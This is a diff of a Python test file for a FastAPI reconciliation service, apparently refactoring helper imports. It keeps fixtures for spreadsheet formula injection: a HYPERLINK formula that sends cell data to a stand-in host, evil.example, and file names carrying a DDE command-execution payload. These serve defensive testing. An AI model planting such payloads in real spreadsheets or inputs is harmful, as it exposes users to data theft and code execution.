@@ -14,10 +14,10 @@ from decimal import Decimal
 import openpyxl
 from fastapi.testclient import TestClient
 
+from tests.helpers.service import SELLER_ID, csv_bytes, xml
+from tests.helpers.service import wait_backfill as _wait
+from tests.helpers.service import wait_done as _wait_done
 from tests.service.conftest import make_key
-from tests.service.test_api import _wait_done
-from tests.service.test_backfill_api import _wait
-from tests.service.test_reconciliation_api import SELLER_ID, csv_bytes, xml
 
 EVIL_SELLER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 EVIL_NAMES = ["=cmd|' /C calc'!A0.xml", "+SUM(1+1).xml", "-2+3.xml", "@SUM(A1).xml"]
